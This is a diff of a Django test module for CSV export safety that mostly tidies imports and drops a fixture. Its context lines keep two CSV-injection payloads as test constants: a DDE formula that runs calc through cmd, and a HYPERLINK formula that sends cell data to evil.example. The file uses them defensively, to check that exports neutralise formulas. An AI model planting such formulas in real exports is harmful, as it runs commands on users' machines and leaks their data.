@@ -10,7 +10,6 @@ import csv
 import io
 import pathlib
 
-import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.core.management import call_command
 from django.urls import reverse
@@ -26,7 +25,7 @@ from tests.factories import (
     ResidentFactory,
     ready_card,
 )
-from tests.receipts.test_import import csv_text, siti
+from tests.import_rows import csv_text, siti
 
 DDE = "=cmd|' /C calc'!A0"
 LINK = '=HYPERLINK("http://evil.example/?"&A1)'
@@ -59,12 +58,6 @@ def assert_spreadsheet_safe(text: str, delimiter: str, *expected: str):
 def body_of(response) -> str:
     raw = b"".join(response.streaming_content) if response.streaming else response.content
     return raw.decode("utf-8")
-
-
-@pytest.fixture
-def staff_client(client, staff):
-    client.force_login(staff)
-    return client
 
 
 def test_safe_cell_follows_the_owasp_rule():
